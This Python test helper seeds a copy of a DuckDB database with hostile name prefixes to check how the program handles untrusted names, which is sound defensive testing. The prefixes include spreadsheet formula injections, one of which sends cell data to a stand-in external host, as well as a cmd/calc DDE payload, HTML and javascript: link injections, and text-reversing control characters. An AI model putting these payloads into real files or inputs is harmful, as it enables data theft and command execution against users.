"""The program's database, where districts, schools and people bear names that are traps."""

from __future__ import annotations

import shutil
from collections.abc import Sequence
from pathlib import Path

import duckdb

# Each begins a name: formulas of a spreadsheet, markup of a chart, values that a template puts in,
# mathematics, a link of Markdown, a color's role, signs that turn the text around them, and so long
# a name that no place has room for it.
TRAPS = (
    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A1 ",
    "-2+3 ",
    "@cmd/x ",
    "\t=1+1 ",
    "\r=1+1 ",
    "\uff1d1+1 ",
    '<a href="//elsewhere.example">link</a> ',
    "<b>bold</b><br>& &amp; ",
    "%{x} %{meta.kind} {x} {{x}} %s ",
    "$x^2$ ",
    "[a](javascript:alert(1)) ",
    "\u202e",
    "\x07",
    "very long " * 40,
)
_NAMES = (
    "district_name",
    "school_name",
    "first_name",
    "last_name",
    "visitor",
    "language",
    "home_language",
    "file",
)


def with_hostile_names(database: Path, copy: Path) -> str:
    """A copy of a database whose names all begin with a trap; its address."""
    shutil.copyfile(database, copy)
    with duckdb.connect(str(copy)) as connection:
        columns = connection.execute(
            "SELECT column_name, list(table_name) FROM information_schema.columns "
            f"WHERE table_schema = 'main' AND column_name IN {_NAMES} GROUP BY column_name"
        ).fetchall()
        for column, tables in columns:
            _trap(connection, column, tables)
        _as_other_loads(connection)
    return f"duckdb:///{copy}"


def _as_other_loads(connection: duckdb.DuckDBPyConnection) -> None:
    """Give loads ids of their own: results are remembered by load, which the first database has."""
    for (table,) in connection.execute(
        "SELECT table_name FROM information_schema.columns "
        "WHERE table_schema = 'main' AND column_name = 'load_id'"
    ).fetchall():
        connection.execute(f"UPDATE \"{table}\" SET load_id = load_id || ' named'")


def _trap(connection: duckdb.DuckDBPyConnection, column: str, tables: Sequence[str]) -> None:
    """Put a trap before every name of a column, each as often as the others."""
    names = " UNION ".join(f'SELECT "{column}" AS name FROM "{table}"' for table in tables)
    connection.execute(
        "CREATE OR REPLACE TEMP TABLE trapped AS "
        "SELECT name, ($traps)[1 + row_number() OVER (ORDER BY name) % len($traps)] || name "
        f"AS words FROM ({names}) WHERE name IS NOT NULL",
        {"traps": list(TRAPS)},
    )
    for table in tables:
        connection.execute(
            f'UPDATE "{table}" AS named SET "{column}" = trapped.words FROM trapped '
            f'WHERE named."{column}" = trapped.name'
        )
